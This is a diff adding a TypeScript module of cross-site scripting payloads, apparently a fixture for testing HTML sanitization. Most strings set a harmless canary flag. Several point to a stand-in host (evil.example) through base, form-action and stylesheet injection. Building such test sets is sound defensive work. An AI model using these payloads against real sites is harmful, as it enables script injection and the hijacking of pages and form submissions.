@@ -1,0 +1,22 @@
+/** Texts that would run a script, or put something of their own on a page, where a page took them for markup. */
+export const PAYLOADS: readonly string[] = [
+  '<script>window.__xss=1</script>',
+  '"><img src=x onerror="window.__xss=1">',
+  "'><svg onload='window.__xss=1'>",
+  '<a href="javascript:window.__xss=1">x</a>',
+  '</td></tr></table><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
+  '</pre></main><details open ontoggle=window.__xss=1>',
+  '" autofocus onfocus="window.__xss=1" x="',
+  '&lt;img src=x onerror=window.__xss=1&gt;',
+  '&#60;img src=x onerror=window.__xss=1&#62;',
+  '<meta http-equiv=refresh content="0;url=javascript:window.__xss=1">',
+  '<base href="//evil.example/">',
+  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
+  '</title></textarea></style></select><form action="//evil.example"><button>x</button>',
+  `$${'{'}window.__xss=1}\`+window.__xss=1+\``,
+  'javascript:window.__xss=1//',
+  '<img/src=`x`onerror=window.__xss=1>',
+  '\u202e<script>window.__xss=1</script>\u0000',
+  '<link rel=stylesheet href="//evil.example/x.css"><style>*{display:none}</style>',
+];
